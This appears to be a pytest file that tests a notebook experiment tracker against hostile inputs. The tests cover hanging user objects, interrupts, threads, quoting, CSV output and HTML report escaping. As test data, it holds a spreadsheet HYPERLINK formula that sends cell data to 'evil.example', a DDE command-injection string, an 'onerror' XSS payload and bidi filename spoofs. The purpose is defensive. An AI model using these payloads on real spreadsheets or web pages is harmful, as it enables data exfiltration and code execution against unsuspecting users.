"""Hostile notebooks: objects that hang or lie, threads, quoting, spreadsheet formulas and bidi
tricks. Each case runs in a real InteractiveShell with the extension loaded and checks that
the cell ran, the run was recorded (with a warning saying what was skipped), and nothing the
user wrote can act on whoever reads the runs later.
"""

from __future__ import annotations

import csv
import io
import json
import signal
import threading
import time
from html.parser import HTMLParser

import pytest

from mlops_nb.cli import main
from mlops_nb.comparison import write_report

BUDGET = 0.5  # seconds a capture step may spend in the user's objects in these tests

# Loops that stop by themselves after 20 s, so a broken guard fails the test instead of
# hanging the suite.
HANGS = """
import time as _t
def _hang(*args, **kwargs):
    end = _t.time() + 20
    while _t.time() < end:
        pass
    return 0.5
def _sleep(*args, **kwargs):
    _t.sleep(20)
    return 0.5
"""


@pytest.fixture
def budget(monkeypatch):
    monkeypatch.setenv("MLOPS_NB_CAPTURE_BUDGET", str(BUDGET))


def _runs(store_home, capsys) -> list[dict]:
    capsys.readouterr()
    assert main(["--home", str(store_home), "runs", "--format", "json"]) == 0
    return json.loads(capsys.readouterr().out)


def _show(store_home, capsys, run_id: str) -> dict:
    capsys.readouterr()
    assert main(["--home", str(store_home), "show", run_id, "--format", "json"]) == 0
    return json.loads(capsys.readouterr().out)


def _timed(shell, code: str) -> float:
    t0 = time.perf_counter()
    shell.run(code)
    return time.perf_counter() - t0


HANGING = {
    # a metric-like name whose __getattr__ hangs (capture must not even ask it)
    "getattr": ("class Odd:\n    def __getattr__(self, name):\n        return _hang()\n"
                "val_score = Odd()\naccuracy = 0.75", None),
    # a --metric variable whose __repr__ hangs (capture names its type instead of asking it)
    "repr": ("class Odd:\n    __repr__ = _hang\nweird = Odd()\naccuracy = 0.75", None),
    # a --metric variable that claims to be a number and hangs when converted, in a busy
    # loop and in a blocking sleep: the metrics step runs out of budget
    "float": ("import numbers\nclass Odd:\n    __float__ = _hang\nnumbers.Real.register(Odd)\n"
              "weird = Odd()\naccuracy = 0.75", "metrics"),
    "float-sleep": ("import numbers\nclass Odd:\n    __float__ = _sleep\n"
                    "numbers.Real.register(Odd)\nweird = Odd()\naccuracy = 0.75", "metrics"),
    # an estimator-like object whose get_params hangs
    "get_params": ("class Est:\n    def fit(self, X, y=None):\n        self.coef_ = 1\n"
                   "        return self\n    get_params = _hang\n"
                   "model = Est().fit([[1]])\naccuracy = 0.75", "estimators"),
    # an object column whose __str__ hangs
    "column": ("import pandas as pd\nclass Odd:\n    __str__ = __repr__ = _hang\n"
               "    def __hash__(self):\n        return _hang()\n"
               "frame = pd.DataFrame({'a': [Odd(), Odd()]})\naccuracy = 0.75", None),
}


@pytest.mark.parametrize("case", list(HANGING))
def test_hanging_user_objects_cost_a_bounded_time_and_the_run_is_kept(
        tracked, store_home, capsys, budget, case):
    code, skipped = HANGING[case]
    tracked.run(HANGS)
    tracked.run("%track on --metric weird")
    elapsed = _timed(tracked, code)
    # every capture step may use its budget once; nothing waits for the 20 s loops
    assert elapsed < 4 * BUDGET + 3, elapsed
    assert _timed(tracked, "f1 = 0.5") < 3  # the kernel is free again
    tracked.flush()
    runs = _runs(store_home, capsys)
    assert [r["metrics.f1"] for r in runs][-1] == 0.5
    if skipped == "metrics":  # the step that hung lost the cell's metrics: a cell run, kept
        assert len(runs) == 1
        hung = {}
        run_id = _cell_run_id(tracked, store_home, count=5)
    else:
        hung = runs[-2]
        assert hung["metrics.accuracy"] == 0.75
        run_id = hung["id"]
    warnings_ = _show(store_home, capsys, run_id)["warnings"]
    if case == "repr":
        assert hung["metrics.weird"].endswith(".Odd object>")  # its type, not its repr
        assert [w for w in warnings_ if "weird: metric value <" in w and "Odd object>" in w]
    if skipped:
        assert [w for w in warnings_ if w.startswith(f"{skipped} capture skipped") and
                "MLOPS_NB_CAPTURE_BUDGET" in w], warnings_


def _cell_run_id(shell, store_home, count: int) -> str:
    """The id of the cell run with this execution count (cell runs without metrics are not
    in the runs table)."""
    from mlops_nb.store.reader import StoreReader

    log = StoreReader(store_home).session_log(shell.tracker.session)
    return next(cr.id for cr in log if cr.execution_count == count)


def test_an_interrupt_during_capture_still_records_the_run(tracked, store_home, capsys,
                                                           monkeypatch):
    """Ctrl-C (SIGINT) while capture is stuck in a user's __repr__: the run is recorded."""
    monkeypatch.setenv("MLOPS_NB_CAPTURE_BUDGET", "0")  # no budget: only the interrupt helps
    tracked.run(HANGS)
    # Ctrl-C once capture is inside the hanging __float__, not at a fixed time (on a loaded
    # machine a timer could fire while the cell itself still ran, stopping the cell instead),
    # and to the kernel's thread itself: which thread of a process takes a signal sent to the
    # process is the OS's choice, and only this one's blocking sleep is cut short by it.
    # Sent again while the sleep goes on: one that lands after `time.sleep` gave up the GIL
    # but before the system call began is handled by nobody, and the sleep runs its 20 s
    # (seen once in CI on a loaded machine).
    entered, left = threading.Event(), threading.Event()
    tracked.ns["_entered"], tracked.ns["_left"] = entered, left
    tracked.run("def _sleep_noted(*args, **kwargs):\n    _entered.set()\n    try:\n"
                "        return _sleep()\n    finally:\n        _left.set()")
    tracked.run("%track on --metric weird")
    stop = threading.Event()
    main = threading.get_ident()

    def interrupt() -> None:
        while not stop.is_set():
            if entered.wait(0.1):
                while not (left.is_set() or stop.is_set()):
                    signal.pthread_kill(main, signal.SIGINT)
                    left.wait(1.0)
                return

    killer = threading.Thread(target=interrupt, daemon=True)
    killer.start()
    count = tracked.ip.execution_count  # the interrupted cell's
    try:
        elapsed = _timed(tracked, "import numbers\nclass Odd:\n    __float__ = _sleep_noted\n"
                                  "numbers.Real.register(Odd)\nweird = Odd()\nlogged = 1")
    finally:
        stop.set()
        killer.join(5)
    assert entered.is_set() and left.is_set()
    assert elapsed < 15, elapsed
    assert tracked.ns["logged"] == 1
    tracked.run("f1 = 0.5")
    tracked.flush()
    runs = _runs(store_home, capsys)
    assert runs[-1]["metrics.f1"] == 0.5
    warnings_ = _show(store_home, capsys, _cell_run_id(tracked, store_home, count))["warnings"]
    assert [w for w in warnings_ if "interrupted" in w], warnings_


def test_a_hanging_figure_costs_a_bounded_time_and_the_run_is_kept(tracked, store_home,
                                                                   capsys, budget,
                                                                   monkeypatch):
    """A figure whose drawing never ends (item 5): skipped after MLOPS_NB_OBJECT_BUDGET with
    a warning on the run; the cell's metric and its other figure are kept."""
    monkeypatch.setenv("MLOPS_NB_OBJECT_BUDGET", str(BUDGET))
    tracked.run(HANGS)
    tracked.run("import io\nimport matplotlib\nmatplotlib.use('Agg')\n"
                "import matplotlib.pyplot as plt\nfrom matplotlib.artist import Artist\n"
                "class Hang(Artist):\n    def draw(self, renderer):\n        _sleep()\n"
                "warm = plt.figure()\nwarm.savefig(io.BytesIO(), format='png')\nplt.close(warm)")
    elapsed = _timed(tracked, "fig = plt.figure()\nfig.add_artist(Hang())\n"
                              "fig2, ax2 = plt.subplots()\nax2.plot([1, 2])\naccuracy = 0.75")
    tracked.run("plt.close('all')")
    assert elapsed < 4 * BUDGET + 3, elapsed
    tracked.flush()
    run = _runs(store_home, capsys)[-1]
    assert run["metrics.accuracy"] == 0.75
    shown = _show(store_home, capsys, run["id"])
    assert [w for w in shown["warnings"] if "a figure was not stored" in w], shown["warnings"]


def test_an_object_whose_getattr_claims_everything_is_not_a_metric(tracked, store_home,
                                                                    capsys):
    tracked.run("class Liar:\n"
                "    def __getattr__(self, name):\n"
                "        return () if name == 'shape' else (lambda *a, **k: 0.93)\n"
                "val_accuracy = Liar()\nf1 = 0.5")
    tracked.flush()
    run = _runs(store_home, capsys)[-1]
    assert run["metrics.f1"] == 0.5
    assert "metrics.val_accuracy" not in run


THREADS = """
import threading, mlops_nb
go, done = threading.Event(), threading.Event()
def worker():
    go.wait(10)
    mlops_nb.log_metric("bg_accuracy", 0.99)
    done.set()
background = threading.Thread(target=worker, daemon=True)
background.start()
"""


def test_metrics_from_a_thread_started_earlier_are_refused_not_misfiled(tracked, store_home,
                                                                         capsys):
    tracked.run(THREADS)
    with pytest.warns(UserWarning, match="was running before the current cell started"):
        tracked.run("go.set(); done.wait(10)\nf1 = 0.5")
    tracked.flush()
    run = _runs(store_home, capsys)[-1]
    assert run["metrics.f1"] == 0.5 and "metrics.bg_accuracy" not in run
    warnings_ = _show(store_home, capsys, run["id"])["warnings"]
    assert [w for w in warnings_ if "bg_accuracy" in w and "not recorded" in w]


def test_metrics_from_threads_the_cell_started_are_the_cells(tracked, store_home, capsys):
    tracked.run("import mlops_nb\nfrom concurrent.futures import ThreadPoolExecutor\n"
                "with ThreadPoolExecutor(2) as ex:\n"
                "    list(ex.map(lambda i: mlops_nb.log_metric(f'fold{i}_f1', i / 10), "
                "range(2)))")
    tracked.flush()
    run = _runs(store_home, capsys)[-1]
    assert run["metrics.fold0_f1"] == 0.0 and run["metrics.fold1_f1"] == 0.1


@pytest.mark.parametrize("line,name", [
    ('%track on --experiment "churn model"', "churn model"),
    ("%track on -e 'churn model'", "churn model"),
    ('%track on --experiment="churn \\"v2\\" model"', 'churn "v2" model'),
    ("%track on -e plain", "plain"),
])
def test_quoted_experiment_names_lose_their_quotes(shell, store_home, capsys, line, name):
    shell.run("%load_ext mlops_nb")
    shell.run(line)
    shell.run("accuracy = 0.5")
    shell.flush()
    assert shell.tracker.experiment == name
    assert [r["experiment"] for r in _runs(store_home, capsys)] == [name]


def test_an_unbalanced_quote_is_a_clear_error(shell, capsys):
    shell.run("%load_ext mlops_nb")
    shell.run('%track on --experiment "churn model')
    err = capsys.readouterr().err
    assert "could not read the options" in err and "Traceback" not in err
    assert not shell.tracker.auto


# -- what readers of the runs see -----------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tstarts with tab", "\x1b[31mred\x1b[0m", "plain"]


def test_csv_neutralises_formulas_and_terminal_escapes(tracked, store_home, capsys):
    code = "import mlops_nb\n" + "".join(
        f"mlops_nb.log_param('p{i}', {v!r})\n" for i, v in enumerate(FORMULAS))
    code += "mlops_nb.log_param('=cmd()', 1)\nloss = -0.25"
    tracked.run(code)
    tracked.flush()
    capsys.readouterr()
    assert main(["--home", str(store_home), "runs", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    rows = list(csv.reader(io.StringIO(out)))
    header, row = rows[0], rows[-1]
    cells = dict(zip(header, row, strict=True))
    for text in [*header, *row]:
        assert not text.startswith(("=", "+", "@", "\t", "\r")), text
        assert not text.startswith("-") or _is_number(text), text
    assert cells["params.p0"] == "'" + FORMULAS[0]
    assert cells["params.p2"] == "'-2+3"
    assert cells["params.p5"] == "\\x1b[31mred\\x1b[0m"
    assert cells["params.p6"] == "plain"
    assert cells["metrics.loss"] == "-0.25"  # a number stays a number
    assert "params.=cmd()" in header  # a column name starts with "params.": no formula


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


HOSTILE = {
    "rlo": "evil\u202eexe.txt",
    "lri": "name\u2066inside\u2069",
    "rlm": "\u200fmark",
    "tag": "<img src=x onerror=alert(1)>",
}


class _Isolation(HTMLParser):
    """Every text node with its open elements, and every attribute value."""

    VOID = frozenset({"meta", "img", "br", "input", "hr", "link"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[tuple[str, dict]] = []
        self.texts: list[tuple[str, list[tuple[str, dict]]]] = []
        self.attrs: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.handlers.extend(f"{tag} {k}" for k, _ in attrs if k.startswith("on"))
        self.attrs.extend(v for _, v in attrs if v)
        if tag not in self.VOID:
            self.stack.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break

    def handle_data(self, data):
        self.texts.append((data, list(self.stack)))


def _isolated(stack: list[tuple[str, dict]]) -> bool:
    return any(tag == "bdi" or "unicode-bidi:isolate" in (a.get("style") or "").replace(" ", "")
               for tag, a in stack)


def test_report_isolates_and_escapes_every_hostile_name_and_value(tracked, store_home, tmp_path):
    code = "import mlops_nb\n"
    for key, text in HOSTILE.items():
        code += f"mlops_nb.log_param({text!r}, {text!r})\nmlops_nb.log_param('v_{key}', {text!r})\n"
    code += "".join(f"mlops_nb.log_metric({t!r}, {i})\n" for i, t in enumerate(HOSTILE.values()))
    code += "accuracy = 0.5"
    tracked.run('%track on -e "exp\u202ename"')
    tracked.run(code)
    tracked.run(code.replace("0.5", "0.75").replace("log_param('v_", "log_param('w_"))
    tracked.flush()
    path = write_report(tmp_path / "report.html", home=store_home)
    text = path.read_text(encoding="utf-8")
    doc = _Isolation()
    doc.feed(text)
    doc.close()
    assert doc.handlers == []  # no event handler attribute anywhere
    seen = set()
    for data, stack in doc.texts:
        if any(tag in ("script", "style", "title") for tag, _ in stack):
            continue
        for key, hostile in HOSTILE.items():
            if hostile in data:
                seen.add(key)
        if any(c in data for c in "\u202e\u2066\u2069\u200f"):
            assert _isolated(stack), (data, [t for t, _ in stack])
    assert seen >= {"rlo", "lri", "tag"}, seen
    for value in doc.attrs:  # attributes cannot isolate: controls there are shown as escapes
        assert not any(c in value for c in "\u202e\u2066\u2069\u200f"), value
    title = text[text.index("<title>"):text.index("</title>")]
    assert "\u202e" not in title
